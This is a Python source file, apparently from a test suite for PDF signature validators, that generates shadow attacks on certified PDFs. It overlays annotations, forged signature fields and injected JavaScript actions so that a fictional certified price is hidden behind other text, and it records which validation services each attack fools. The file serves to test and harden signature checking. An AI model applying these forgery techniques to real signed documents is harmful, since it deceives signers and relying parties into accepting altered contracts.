"""Attacks on certified files: what the certificate allows - annotations, further signatures - is made to hide what was certified."""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields

from vectors.attacks import bytework, honest, service
from vectors.attacks.bytework import annotated, behind, body, next_number, root_number, stream
from vectors.attacks.samples import archived_too, attack

EAA, SSA = "Certification: evil annotation", "Certification: sneaky signature"
ALLOWED, NOT_ALLOWED = "service-p3", ("service-p1", "service-p2", "house-sealed")
_NOTE = b"<< /Type /Annot /Subtype /%b /Rect [60 745 360 775] /P $PAGE %b >>"


def _note(kind: bytes, more: bytes) -> bytes:
    return _NOTE % (kind, more)


@attack(EAA, ALLOWED, *NOT_ALLOWED)
@archived_too(EAA, "service-p3", "service-p2")
def free_text(pdf: bytes) -> bytes:
    """A text annotation over the price, looking like the page."""
    return annotated(pdf, _note(b"FreeText", b"/F 4 /DA (/F1 14 Tf) /Contents (Fictional contract, 9000 yen) /AP << /N $LOOK >>"))


@attack(EAA, ALLOWED, *NOT_ALLOWED)
@archived_too(EAA, "service-p3")
def stamp(pdf: bytes) -> bytes:
    """A stamp annotation over the price."""
    return annotated(pdf, _note(b"Stamp", b"/F 4 /AP << /N $LOOK >>"))


@attack(EAA, ALLOWED)
def redaction(pdf: bytes) -> bytes:
    """A redaction over the price, with an overlay of other words."""
    return annotated(pdf, _note(b"Redact", b"/F 4 /OverlayText (9000 yen) /DA (/F1 14 Tf) /AP << /N $LOOK >>"))


@attack(EAA, ALLOWED)
def highlight(pdf: bytes) -> bytes:
    """A highlight that covers the price in opaque white."""
    return annotated(pdf, _note(b"Highlight", b"/F 4 /QuadPoints [60 775 360 775 60 745 360 745] /C [1 1 1] /AP << /N $LOOK >>"))


@attack(EAA, ALLOWED)
def drawing(pdf: bytes) -> bytes:
    """An ink annotation whose appearance is another text."""
    return annotated(pdf, _note(b"Ink", b"/F 4 /InkList [[60 745 360 775]] /AP << /N $LOOK >>"))


@attack(EAA, ALLOWED, "service-p2")
def locked_and_unlisted(pdf: bytes) -> bytes:
    """The annotation locked, read-only and of a kind that viewers' lists of comments leave out."""
    return annotated(pdf, _note(b"Square", b"/F 196 /C [] /AP << /N $LOOK >> /NM ()"))


@attack(EAA, ALLOWED)
def unknown_kind(pdf: bytes) -> bytes:
    """An annotation of a kind nobody knows, drawn all the same."""
    return annotated(pdf, _note(b"Terms", b"/F 4 /AP << /N $LOOK >>"))


@attack(EAA, ALLOWED, "service-p2")
@archived_too(EAA, "service-p3")
def link_over_the_page(pdf: bytes) -> bytes:
    """A link over the page that leads to another document."""
    return annotated(pdf, _note(b"Link", b"/F 4 /A << /S /URI /URI (https://example.com/terms.pdf) >> /AP << /N $LOOK >>"))


@attack(EAA, ALLOWED, "service-p2", "house-sealed")
@archived_too(EAA, "service-p3")
def script_in_annotation(pdf: bytes) -> bytes:
    """An annotation with a script that runs when the page is seen."""
    script = b"/AA << /PV << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    return annotated(pdf, _note(b"Screen", b"/F 4 " + script + b" /AP << /N $LOOK >>"))


@attack(EAA, ALLOWED, "service-p2")
def script_in_catalogue(pdf: bytes) -> bytes:
    """A script of the whole document, by name."""
    root, number = root_number(pdf), next_number(pdf)
    names = b"/Names << /JavaScript << /Names [(a) %d 0 R] >> >>" % number
    return behind(pdf, {root: bytework.entered(body(pdf, root), names), number: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})


@attack(EAA, ALLOWED)
def free_text_then_signed(pdf: bytes) -> bytes:
    """The text annotation, then an honest approval of a second signer."""
    return service.sign(free_text(pdf), field="Signature2", at=honest.LATER)


@attack(EAA, ALLOWED)
def free_text_then_stamped(pdf: bytes) -> bytes:
    """The text annotation, then validation data and a document timestamp."""
    return service.stamp(service.with_validation_data(free_text(pdf)), at=honest.LATER, field="Stamp")


# ------------------------------------------------------------------------------------------- sneaky signatures


def _sneaky(pdf: bytes, *, trusted: bool = False, box: tuple[int, int, int, int] = (60, 740, 460, 790), **manner: object) -> bytes:
    """A signature of the forger's whose appearance is another text over the certified one."""
    who = service.somebody("Fictional Signer", number=420, trusted=trusted)
    source = service.stamper(411, trusted=False)
    return service.sign(_waiting(pdf, box), who=who, source=source, field="Signature2", at=honest.LATER, **manner)


def _waiting(pdf: bytes, box: tuple[int, int, int, int], *, look: bytes | None = None) -> bytes:
    """A visible signature field of the forger's that waits, with other words as its appearance."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    fields.append_signature_field(writer, fields.SigFieldSpec("Signature2", box=box))
    out = io.BytesIO()
    writer.write(out)
    laid = out.getvalue()
    number, place = bytework.field_number(laid, "Signature2"), next_number(laid)
    look = look or stream(
        b"1 1 1 rg 0 0 400 50 re f 0 g BT /F1 14 Tf 12 20 Td (Fictional contract, 9000 yen) Tj ET",
        b"/Type /XObject /Subtype /Form /BBox [0 0 400 50] /Resources << /Font << /F1 5 0 R >> >>",
    )
    held = re.sub(rb"/AP\s*(?:<<.*?>>|\d+ 0 R)", b"", body(laid, number), flags=re.DOTALL)
    return behind(laid, {number: bytework.entered(held, b"/AP << /N %d 0 R >>" % place), place: look})


@attack(SSA, "service-p2", "service-p3", "service-p1", "house-sealed")
@archived_too(SSA, "service-p2")
def field_that_hides(pdf: bytes) -> bytes:
    """A signature field that nobody signs, whose appearance hides the price."""
    return _waiting(pdf, (60, 740, 460, 790))


@attack(SSA, "service-p2", "service-p3", "house-sealed")
@archived_too(SSA, "service-p2")
def strangers_signature_that_hides(pdf: bytes) -> bytes:
    """A stranger's signature with other words over the certified ones."""
    return _sneaky(pdf)


@attack(SSA, "service-p2", "service-p3")
def untimed_signature_that_hides(pdf: bytes) -> bytes:
    """The same without a timestamp, which any key can make."""
    return _sneaky(pdf, stamped=False)


@attack(SSA, "service-p2")
def whole_page_signature(pdf: bytes) -> bytes:
    """A stranger's signature as large as the page."""
    return _sneaky(pdf, box=(0, 0, 595, 842))


@attack(SSA, "service-p2")
@archived_too(SSA, "service-p2")
def trusted_signature_that_hides(pdf: bytes) -> bytes:
    """A signature with a trusted certificate whose appearance hides the certified price."""
    return _sneaky(pdf, trusted=True)


@attack(SSA, "service-p2")
def signature_with_script(pdf: bytes) -> bytes:
    """A signature field with a script in its actions, signed by a stranger."""
    laid = _waiting(pdf, (60, 740, 460, 790))
    number = bytework.field_number(laid, "Signature2")
    held = bytework.entered(body(laid, number), b"/AA << /U << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")
    who = service.somebody("Fictional Signer", number=420, trusted=False)
    return service.sign(behind(laid, {number: held}), who=who, stamped=False, field="Signature2", at=honest.LATER)
